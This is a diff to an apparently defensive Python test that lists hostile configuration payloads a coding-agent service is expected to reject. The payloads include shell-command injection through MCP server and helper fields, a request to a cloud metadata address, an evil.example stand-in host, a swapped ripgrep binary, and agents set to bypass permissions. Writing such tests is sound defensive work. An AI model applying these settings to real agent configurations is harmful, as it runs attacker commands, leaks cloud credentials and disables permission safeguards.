@@ -70,6 +70,8 @@ def test_no_path_leads_out_of_the_roots(target: Target, mallory: Connection, pat
         {"pathToClaudeCodeExecutable": "/bin/sh"},
         {"mcpServers": {"evil": {"command": "sh", "args": ["-c", "id"]}}},
         {"mcpServers": {"evil": {"type": "http", "url": "http://169.254.169.254/"}}},
+        {"mcpServers": {"evil": {"type": "http", "url": "http://evil.example/", "headersHelper": "id"}}},
+        {"sandbox": {"enabled": True, "ripgrep": {"command": "/tmp/evil"}}},
         {"agents": {"evil": {"description": "x", "prompt": "x", "permissionMode": "bypassPermissions"}}},
         {"agents": {"evil": {"description": "x", "prompt": "x", "hooks": {"Stop": []}}}},
         {"agents": {"evil": {"description": "x", "prompt": "x", "mcpServers": [{"e": {"command": "sh"}}]}}},
